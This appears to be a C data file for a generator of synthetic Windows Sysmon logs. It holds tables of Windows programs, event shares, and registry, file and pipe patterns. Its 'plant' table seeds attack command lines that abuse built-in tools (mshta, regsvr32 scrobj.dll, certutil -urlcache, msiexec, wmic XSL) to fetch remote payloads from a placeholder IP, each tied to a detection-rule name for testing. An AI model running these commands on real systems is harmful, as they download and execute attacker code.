/* What the generator knows of the world, as tables: programs of Windows (facts), patterns of names (invented), and the numbers
 * that were measured on real logs. 37 public Sysmon logs of workstations and servers with 300 events or more, 60,557 events
 * in all; a share is the mean over the logs without the tenth at either end, so that no single noisy log decides. */
#include "gen.h"

#include <stdlib.h>
#include <string.h>

#define COUNT(a) (sizeof(a) / sizeof(a)[0])

const struct mix mix[] = {
	/* id, version, share, burst, skew */
	{1, 5, 451, 1, 1},
	{2, 5, 11, 1, 2},
	{3, 5, 1171, 1, 2},
	{5, 3, 344, 1, 1},
	{7, 3, 22308, 4, 3},
	{8, 2, 5, 1, 2},
	{9, 2, 623, 3, 6},
	{10, 3, 48238, 7, 12},
	{11, 2, 1075, 1, 4},
	{12, 2, 16860, 6, 7},
	{13, 2, 8220, 5, 6},
	{15, 2, 4, 1, 2},
	{17, 1, 107, 1, 2},
	{18, 1, 398, 2, 3},
	{22, 5, 118, 1, 2},
	{23, 5, 75, 1, 3},
	{26, 5, 20, 1, 3},
};
const size_t nmix = COUNT(mix);

const struct ranks ranks_dll = {3, 11, 37, 85}, ranks_trace = {46, 83, 93, 98}, ranks_key = {12, 31, 62, 89},
	ranks_value = {8, 26, 48, 84}, ranks_address = {18, 42, 68, 90};

/* Not measured (the logs are of minutes): a working day. */
const uint32_t hour_weight[24] = {3, 3, 3, 3, 3, 4, 6, 12, 20, 22, 22, 20, 16, 19, 21, 21, 19, 15, 9, 6, 5, 4, 4, 3};

#define WIN10 "10.0.19041.3636 (WinBuild.160101.0800)"
#define MS "Microsoft Corporation"
#define WINDOWS "Microsoft\xc2\xae Windows\xc2\xae Operating System"
#define DOTNET "Microsoft\xc2\xae .NET Framework"
#define NET48 "4.8.4084.0 built by: NET48REL1"
#define S32 "C:\\Windows\\System32\\"
#define EDGE "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
#define OFFICE "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
#define FRAMEWORK "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"

const struct program program[] = {
	{S32 "svchost.exe", WIN10, "Host Process for Windows Services", WINDOWS, MS, "svchost.exe", ACCOUNT_SYSTEM, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s $w"},
	{S32 "lsass.exe", WIN10, "Local Security Authority Process", WINDOWS, MS, "lsass.exe", ACCOUNT_SYSTEM, "C:\\Windows\\system32\\lsass.exe"},
	{S32 "services.exe", WIN10, "Services and Controller app", WINDOWS, MS, "services.exe", ACCOUNT_SYSTEM, "C:\\Windows\\system32\\services.exe"},
	{S32 "csrss.exe", WIN10, "Client Server Runtime Process", WINDOWS, MS, "CSRSS.Exe", ACCOUNT_SYSTEM, "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows"},
	{S32 "wininit.exe", WIN10, "Windows Start-Up Application", WINDOWS, MS, "WinInit.exe", ACCOUNT_SYSTEM, "wininit.exe"},
	{S32 "winlogon.exe", WIN10, "Windows Logon Application", WINDOWS, MS, "WINLOGON.EXE", ACCOUNT_SYSTEM, "winlogon.exe"},
	{S32 "spoolsv.exe", WIN10, "Spooler SubSystem App", WINDOWS, MS, "spoolsv.exe", ACCOUNT_SYSTEM, "C:\\Windows\\System32\\spoolsv.exe"},
	{S32 "wbem\\WmiPrvSE.exe", WIN10, "WMI Provider Host", WINDOWS, MS, "Wmiprvse.exe", ACCOUNT_NETWORK, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"},
	{S32 "SearchIndexer.exe", "7.0.19041.3636 (WinBuild.160101.0800)", "Microsoft Windows Search Indexer", "Windows\xc2\xae Search", MS, "SearchIndexer.exe", ACCOUNT_SYSTEM, "C:\\Windows\\system32\\SearchIndexer.exe /Embedding"},
	{S32 "taskhostw.exe", WIN10, "Host Process for Windows Tasks", WINDOWS, MS, "taskhostw.exe", ACCOUNT_PERSON, "taskhostw.exe {$g}"},
	{S32 "RuntimeBroker.exe", WIN10, "Runtime Broker", WINDOWS, MS, "RuntimeBroker.exe", ACCOUNT_PERSON, "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"},
	{S32 "dllhost.exe", WIN10, "COM Surrogate", WINDOWS, MS, "dllhost.exe", ACCOUNT_PERSON, "C:\\Windows\\system32\\DllHost.exe /Processid:{$g}"},
	{S32 "sihost.exe", WIN10, "Shell Infrastructure Host", WINDOWS, MS, "sihost.exe", ACCOUNT_PERSON, "sihost.exe"},
	{S32 "ctfmon.exe", WIN10, "CTF Loader", WINDOWS, MS, "CTFMON.EXE", ACCOUNT_PERSON, "\"ctfmon.exe\""},
	{S32 "conhost.exe", WIN10, "Console Window Host", WINDOWS, MS, "CONHOST.EXE", ACCOUNT_PERSON, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
	{S32 "backgroundTaskHost.exe", WIN10, "Background Task Host", WINDOWS, MS, "backgroundTaskHost.exe", ACCOUNT_PERSON, "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX$x.mca"},
	{S32 "SearchProtocolHost.exe", "7.0.19041.3636 (WinBuild.160101.0800)", "Microsoft Windows Search Protocol Host", "Windows\xc2\xae Search", MS, "SearchProtocolHost.exe", ACCOUNT_SYSTEM, "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe$d_ Global\\UsGthrCtrlFltPipeMssGthrPipe$d 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\""},
	{"C:\\Windows\\explorer.exe", WIN10, "Windows Explorer", WINDOWS, MS, "EXPLORER.EXE", ACCOUNT_PERSON, "C:\\Windows\\Explorer.EXE"},
	{"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe", "4.18.24010.12 (f2ff8b2c4d1b8a6e)", "Antimalware Service Executable", WINDOWS, MS, "MsMpEng.exe", ACCOUNT_SYSTEM, "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe\""},
	{EDGE, "122.0.2365.66", "Microsoft Edge", "Microsoft Edge", MS, "msedge.exe", ACCOUNT_PERSON, "\"" EDGE "\" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id=$d --time-ticks-at-unix-epoch=-17101$d --launch-time-ticks=$d --mojo-platform-channel-handle=$d --field-trial-handle=$d,i,$d$d,262144 /prefetch:1"},
	{OFFICE "OUTLOOK.EXE", "16.0.17328.20162", "Microsoft Outlook", "Microsoft Office", MS, "Outlook.exe", ACCOUNT_PERSON, "\"" OFFICE "OUTLOOK.EXE\""},
	{OFFICE "WINWORD.EXE", "16.0.17328.20162", "Microsoft Word", "Microsoft Office", MS, "WinWord.exe", ACCOUNT_PERSON, "\"" OFFICE "WINWORD.EXE\" /n \"C:\\Users\\$u\\Documents\\$w $w.docx\" /o \"\""},
	{OFFICE "EXCEL.EXE", "16.0.17328.20162", "Microsoft Excel", "Microsoft Office", MS, "Excel.exe", ACCOUNT_PERSON, "\"" OFFICE "EXCEL.EXE\" \"C:\\Users\\$u\\Documents\\$w.xlsx\""},
	{"C:\\Program Files\\Corp Agent\\agent.exe", "5.12.4.0", "Inventory agent", "Corp Agent", "Corp Example", "agent.exe", ACCOUNT_SYSTEM, "\"C:\\Program Files\\Corp Agent\\agent.exe\" --service"},
	{"C:\\Program Files\\Corp Agent\\collect.exe", "5.12.4.0", "Inventory collector", "Corp Agent", "Corp Example", "collect.exe", ACCOUNT_SYSTEM, "\"C:\\Program Files\\Corp Agent\\collect.exe\" --job $g --set $w,$w"},
	{"C:\\Program Files\\Corp VPN\\vpnui.exe", "3.1.0.77", "VPN client", "Corp VPN", "Corp Example", "vpnui.exe", ACCOUNT_PERSON, "\"C:\\Program Files\\Corp VPN\\vpnui.exe\" -tray"},
	{S32 "cmd.exe", WIN10, "Windows Command Processor", WINDOWS, MS, "Cmd.Exe", ACCOUNT_PERSON, "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Users\\$u\\AppData\\Local\\Temp\\$w.cmd\"\""},
	{S32 "WindowsPowerShell\\v1.0\\powershell.exe", WIN10, "Windows PowerShell", WINDOWS, MS, "PowerShell.EXE", ACCOUNT_PERSON, "powershell.exe -NoProfile -ExecutionPolicy AllSigned -File \"C:\\Program Files\\Corp Agent\\scripts\\$w.ps1\" -Id $d"},
	{S32 "rundll32.exe", WIN10, "Windows host process (Rundll32)", WINDOWS, MS, "RUNDLL32.EXE", ACCOUNT_PERSON, "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\shell32.dll,Control_RunDLL $w.cpl"},
	{S32 "regsvr32.exe", WIN10, "Microsoft(C) Register Server", WINDOWS, MS, "REGSVR32.EXE", ACCOUNT_SYSTEM, "\"C:\\Windows\\system32\\regsvr32.exe\" /s \"C:\\Program Files\\$w\\$w.dll\""},
	{S32 "msiexec.exe", "5.0.19041.3636 (WinBuild.160101.0800)", "Windows\xc2\xae installer", "Windows Installer - Unicode", MS, "msiexec.exe", ACCOUNT_SYSTEM, "C:\\Windows\\System32\\MsiExec.exe -Embedding $x$x$x$x E Global\\MSI0000"},
	{S32 "certutil.exe", WIN10, "CertUtil.exe", WINDOWS, MS, "CertUtil.exe", ACCOUNT_PERSON, "certutil  -hashfile C:\\Users\\$u\\Downloads\\$w.zip SHA256"},
	{S32 "mshta.exe", "11.00.19041.3570 (WinBuild.160101.0800)", "Microsoft (R) HTML Application host", "Internet Explorer", MS, "MSHTA.EXE", ACCOUNT_PERSON, "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Program Files\\Inventory\\$w.hta\""},
	{S32 "cmstp.exe", "7.2.19041.3636 (WinBuild.160101.0800)", "Microsoft Connection Manager Profile Installer", "Microsoft(R) Connection Manager", MS, "CMSTP.EXE", ACCOUNT_PERSON, "cmstp.exe /s C:\\ProgramData\\$w.inf"},
	{S32 "odbcconf.exe", WIN10, "ODBC Driver Configuration Program", WINDOWS, MS, "odbcconf.exe", ACCOUNT_PERSON, "odbcconf.exe /A {CONFIGSYSDSN \"SQL Server\" \"DSN=$w|Server=SRV-SQL01\"}"},
	{S32 "wbem\\WMIC.exe", WIN10, "WMI Commandline Utility", WINDOWS, MS, "wmic.exe", ACCOUNT_PERSON, "wmic  os get caption /format:list"},
	{"C:\\Windows\\hh.exe", WIN10, "Microsoft\xc2\xae HTML Help Executable", "HTML Help", MS, "HH.exe", ACCOUNT_PERSON, "\"C:\\Windows\\hh.exe\" C:\\Program Files\\$w\\$w.chm"},
	{FRAMEWORK "InstallUtil.exe", NET48, ".NET Framework installation utility", DOTNET, MS, "InstallUtil.exe", ACCOUNT_PERSON, "InstallUtil.exe \"C:\\Program Files\\$w\\$w.exe\""},
	{FRAMEWORK "MSBuild.exe", NET48, "MSBuild.exe", DOTNET, MS, "MSBuild.exe", ACCOUNT_PERSON, "MSBuild.exe C:\\src\\$w\\$w.csproj /t:Build"},
	{FRAMEWORK "RegAsm.exe", NET48, "Microsoft .NET Assembly Registration Utility", DOTNET, MS, "RegAsm.exe", ACCOUNT_PERSON, "RegAsm.exe /codebase \"C:\\Program Files\\$w\\Interop.dll\""},
	{FRAMEWORK "RegSvcs.exe", NET48, "Microsoft .NET Services Installation Utility", DOTNET, MS, "RegSvcs.exe", ACCOUNT_PERSON, "RegSvcs.exe \"C:\\Program Files\\$w\\$w.dll\""},
};
const size_t nprograms = COUNT(program);

size_t program_find(const char *name)
{
	for (size_t i = 0; i < nprograms; i++) {
		const char *base = strrchr(program[i].path, '\\');
		if (strcmp(base ? base + 1 : program[i].path, name) == 0)
			return i;
	}
	abort();
}

const struct resident resident[] = {
	{"svchost.exe", 44, true}, {"MsMpEng.exe", 1, true}, {"lsass.exe", 1, true}, {"csrss.exe", 2, false}, {"services.exe", 1, false},
	{"explorer.exe", 1, false}, {"SearchIndexer.exe", 1, false}, {"WmiPrvSE.exe", 2, false}, {"msedge.exe", 9, true},
	{"OUTLOOK.EXE", 1, true}, {"wininit.exe", 1, false}, {"winlogon.exe", 1, false}, {"spoolsv.exe", 1, true},
	{"taskhostw.exe", 2, false}, {"RuntimeBroker.exe", 6, false}, {"dllhost.exe", 2, false}, {"sihost.exe", 1, false},
	{"ctfmon.exe", 1, false}, {"agent.exe", 1, true}, {"vpnui.exe", 1, true},
};
const size_t nresidents = COUNT(resident);

const struct visitor visitor[] = {
	{"conhost.exe", "services.exe", NULL, 14},
	{"backgroundTaskHost.exe", "svchost.exe", NULL, 12},
	{"SearchProtocolHost.exe", "SearchIndexer.exe", NULL, 10},
	{"taskhostw.exe", "svchost.exe", NULL, 8},
	{"RuntimeBroker.exe", "svchost.exe", NULL, 8},
	{"dllhost.exe", "svchost.exe", NULL, 8},
	{"svchost.exe", "services.exe", NULL, 8},
	{"WmiPrvSE.exe", "svchost.exe", NULL, 6},
	{"msedge.exe", "explorer.exe", NULL, 14},
	{"collect.exe", "agent.exe", NULL, 6},
	{"cmd.exe", "explorer.exe", NULL, 5},
	{"powershell.exe", "agent.exe", NULL, 4},
	{"powershell.exe", "agent.exe", "powershell.exe -NoProfile -NonInteractive -EncodedCommand $b", 2},
	{"WINWORD.EXE", "explorer.exe", NULL, 3},
	{"EXCEL.EXE", "explorer.exe", NULL, 3},
	{"rundll32.exe", "explorer.exe", NULL, 5},
	{"rundll32.exe", "svchost.exe", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask", 2},
	{"msiexec.exe", "services.exe", NULL, 2},
	{"regsvr32.exe", "services.exe", NULL, 1},
	{"certutil.exe", "explorer.exe", NULL, 1},
	{"MSBuild.exe", "explorer.exe", NULL, 1},
	{"WMIC.exe", "agent.exe", NULL, 1},
	{"hh.exe", "explorer.exe", NULL, 1},
	{"mshta.exe", "explorer.exe", NULL, 1},
};
const size_t nvisitors = COUNT(visitor);

#define OWN(binary) "windows_" binary "_network_connection_same_process"
const struct plant plant[] = {
	{{OWN("installutil"), "windows_installutil_remote_network_connection"}, "InstallUtil.exe", NULL, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe  /logfile= /LogToConsole=false /U C:\\ProgramData\\$w.dll", 443},
	{{OWN("mshta"), NULL}, "mshta.exe", NULL, "mshta.exe https://203.0.113.10/$w.hta", 443},
	{{OWN("regsvr32"), NULL}, "regsvr32.exe", NULL, "regsvr32.exe /s /n /u /i:https://203.0.113.10/$w.sct scrobj.dll", 443},
	{{OWN("rundll32"), NULL}, "rundll32.exe", NULL, "rundll32.exe C:\\Users\\$u\\AppData\\Roaming\\$w.dll,Start", 8443},
	{{OWN("installutil"), "windows_installutil_remote_network_connection"}, "InstallUtil.exe", NULL, "InstallUtil.exe /U \"C:\\Users\\$u\\Downloads\\$w.dll\"", 8080},
	{{OWN("msbuild"), NULL}, "MSBuild.exe", NULL, "MSBuild.exe C:\\Users\\Public\\$w.xml", 8080},
	{{"windows_certutil_download_same_process", NULL}, "certutil.exe", NULL, "certutil.exe -urlcache -split -f http://203.0.113.10/$w.txt C:\\ProgramData\\$w.txt", 80},
	{{OWN("cmstp"), NULL}, "cmstp.exe", NULL, "cmstp.exe /s C:\\Users\\$u\\AppData\\Local\\Temp\\$w.inf", 443},
	{{OWN("odbcconf"), NULL}, "odbcconf.exe", NULL, "odbcconf.exe /S /A {REGSVR \"C:\\ProgramData\\$w.dll\"}", 4443},
	{{OWN("regasm_or_regsvcs"), NULL}, "RegAsm.exe", NULL, "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe\"", 2404},
	{{OWN("regasm_or_regsvcs"), NULL}, "RegSvcs.exe", NULL, "RegSvcs.exe C:\\ProgramData\\$w.dll", 443},
	{{"windows_wmic_xsl_script_network_connection_same_process", NULL}, "WMIC.exe", NULL, "wmic os get /format:\"https://203.0.113.10/$w.xsl\"", 443},
	{{OWN("html_help"), NULL}, "hh.exe", NULL, "\"C:\\Windows\\hh.exe\" C:\\Users\\$u\\Downloads\\$w.chm", 80},
	{{"windows_msiexec_remote_package_same_process", NULL}, "msiexec.exe", NULL, "msiexec /q /i https://203.0.113.10/$w.msi", 443},
	{{OWN("rundll32"), OWN("renamed_proxy_binary")}, "rundll32.exe", "C:\\ProgramData\\Display\\dispsvc.exe", "C:\\ProgramData\\Display\\dispsvc.exe C:\\ProgramData\\Display\\$w.dat,#1", 443},
};
const size_t nplants = COUNT(plant);

/* ---- names and patterns ---- */

const char *const syllable[] = {
	"ba", "bel", "bor", "cal", "cor", "da", "den", "dor", "el", "fa", "fin", "ga", "gol", "ha", "hol", "ka", "ker", "la", "lin", "lo", "ma",
	"mer", "mi", "na", "nor", "o", "pa", "per", "ra", "ri", "ro", "sa", "sel", "so", "ta", "tel", "tor", "u", "va", "ver", "vi", "wa", "wi", "zo",
};
const size_t nsyllables = COUNT(syllable);

const char *const dll_name[] = {                         /* the most frequent first */
	"ntdll.dll", "kernel32.dll", "KernelBase.dll", "msvcrt.dll", "sechost.dll", "rpcrt4.dll", "advapi32.dll", "combase.dll", "ucrtbase.dll",
	"bcryptprimitives.dll", "user32.dll", "gdi32.dll", "gdi32full.dll", "win32u.dll", "msvcp_win.dll", "imm32.dll", "ole32.dll", "oleaut32.dll",
	"shlwapi.dll", "SHCore.dll", "shell32.dll", "kernel.appcore.dll", "windows.storage.dll", "profapi.dll", "powrprof.dll", "umpdc.dll", "cfgmgr32.dll",
	"ws2_32.dll", "crypt32.dll", "msasn1.dll", "wintrust.dll", "bcrypt.dll", "ncrypt.dll", "cryptbase.dll", "cryptsp.dll", "rsaenh.dll", "sspicli.dll",
	"secur32.dll", "userenv.dll", "version.dll", "wtsapi32.dll", "winhttp.dll", "wininet.dll", "urlmon.dll", "iertutil.dll", "mswsock.dll", "dnsapi.dll",
	"IPHLPAPI.DLL", "nsi.dll", "netutils.dll", "srvcli.dll", "samcli.dll", "wkscli.dll", "netapi32.dll", "logoncli.dll", "propsys.dll", "uxtheme.dll",
	"dwmapi.dll", "dbghelp.dll", "dbgcore.dll", "amsi.dll", "taskschd.dll", "clbcatq.dll", "xmllite.dll", "msxml6.dll", "wbemcomn.dll", "fastprox.dll",
	"wbemprox.dll", "mscoree.dll", "samlib.dll", "vaultcli.dll", "winsta.dll", "ntmarta.dll", "devobj.dll", "setupapi.dll", "gpapi.dll",
};
const size_t ndll_names = COUNT(dll_name);

const char *const dll_pattern[] = {                      /* the rest */
	S32 "$w.dll", S32 "$w.dll", S32 "$w.dll", S32 "$w$w.dll", S32 "Windows.$w.$w.dll", S32 "$wapi.dll", S32 "DriverStore\\FileRepository\\$w.inf_amd64_$x$x\\$w64.dll",
	"C:\\Windows\\SysWOW64\\$w.dll", "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\$w\\$x$x$x$x\\$w.ni.dll",
	"C:\\Windows\\WinSxS\\amd64_microsoft.windows.$w_6595b64144ccf1df_6.0.19041.3636_none_$x$x\\$w.dll", "C:\\Program Files\\Common Files\\Microsoft Shared\\$w\\$w.dll",
	OFFICE "$w.dll", "C:\\Program Files (x86)\\$w\\bin\\$w.dll", "C:\\Program Files\\Corp Agent\\plugins\\$w.dll",
};
const size_t ndll_patterns = COUNT(dll_pattern);

const char *const trace_module[] = {
	"C:\\Windows\\SYSTEM32\\ntdll.dll", "C:\\Windows\\System32\\KERNELBASE.dll", "C:\\Windows\\System32\\KERNEL32.DLL", "C:\\Windows\\System32\\RPCRT4.dll",
	"C:\\Windows\\System32\\combase.dll", "C:\\Windows\\System32\\sechost.dll", "c:\\windows\\system32\\appinfo.dll", "C:\\Windows\\system32\\psmserviceexthost.dll",
	"c:\\windows\\system32\\lsm.dll", "C:\\Windows\\system32\\wbem\\cimwin32.dll", "C:\\Windows\\system32\\framedynos.dll", "C:\\Windows\\System32\\SHELL32.dll",
	"C:\\Windows\\system32\\lsasrv.dll", "C:\\Windows\\System32\\windows.storage.dll",
};
const size_t ntrace_modules = COUNT(trace_module);

const char *const key_pattern[] = {
	"HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\$w\\Certificates", "HKLM\\SOFTWARE\\Policies\\Microsoft\\SystemCertificates\\$w\\CRLs",
	"HKLM\\System\\CurrentControlSet\\Services\\$w", "HKLM\\System\\CurrentControlSet\\Services\\$w\\Parameters",
	"HKCR\\CLSID\\{$g}", "HKCR\\WOW6432Node\\CLSID\\{$g}\\InprocServer32", "HKU\\.DEFAULT\\Software\\Classes\\Local Settings\\MuiCache\\$d\\$x",
	"HKU\\$s\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\$w", "HKU\\$s_Classes\\Local Settings\\Software\\$w",
	"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Components\\$x$x$x$x", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{$g}",
	"HKLM\\System\\CurrentControlSet\\Enum\\SWD\\$w\\{$g}", "HKLM\\SOFTWARE\\$w\\$w", "HKU\\$s\\Software\\$w\\$w",
};
const size_t nkey_patterns = COUNT(key_pattern);

const char *const value_pattern[] = {
	"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\$s\\\\Device\\HarddiskVolume4\\Program Files\\$w\\$w.exe",
	"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{$g}\\DynamicInfo", "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{$g}\\Lease$w",
	"HKU\\$s\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{$g}\\Count\\$w.exe", "HKLM\\System\\CurrentControlSet\\Services\\$w\\Start",
	"HKLM\\System\\CurrentControlSet\\Services\\$w\\ImagePath", "HKU\\$s\\Software\\Microsoft\\Office\\16.0\\Common\\$w\\$w\\$d", "HKU\\$s\\Software\\Microsoft\\Windows\\CurrentVersion\\$w\\$w",
	"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\$w\\$w", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\$x$x$x$x\\InstallProperties\\$w",
	"HKLM\\SOFTWARE\\Microsoft\\Windows Search\\UsnNotifier\\Windows\\Catalogs\\SystemIndex\\{$g}",
};
const size_t nvalue_patterns = COUNT(value_pattern);

const char *const details_pattern[] = {                  /* the most frequent first */
	"DWORD (0x00000001)", "Binary Data", "DWORD (0x00000000)", "QWORD (0x01da7e2a-0x$x)", "DWORD (0x$x)", "(Empty)", "{$g}", "%SystemRoot%\\system32\\$w.exe", "$w", "C:\\Program Files\\$w\\$w.exe", "$w;$w;$w;$w;$w;$w;$w;$w",
};
const size_t ndetails_patterns = COUNT(details_pattern);

const char *const file_pattern[] = {
	"C:\\Windows\\Prefetch\\$w.EXE-$x.pf", "C:\\Users\\$u\\AppData\\Local\\Temp\\$x.tmp", "C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\$w\\$x.dat",
	"C:\\Users\\$u\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\f_$x", "C:\\Windows\\SoftwareDistribution\\Download\\$x$x$x$x\\$w.cab", "C:\\Windows\\Temp\\$w$d.log",
	"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\$w\\$g", "C:\\Users\\$u\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\$w $w.lnk", "C:\\ProgramData\\Corp Agent\\spool\\$g.json",
};
const size_t nfile_patterns = COUNT(file_pattern);

const char *const pipe_pattern[] = {"\\lsass", "\\wkssvc", "\\srvsvc", "\\samr", "\\spoolss", "\\PIPE_EVENTROOT\\CIMV2SCM EVENT PROVIDER", "\\mojo.$d.$d.$x$x", "\\PSHost.1333$d$x.$d.DefaultAppDomain.powershell", "\\$w"};
const size_t npipe_patterns = COUNT(pipe_pattern);
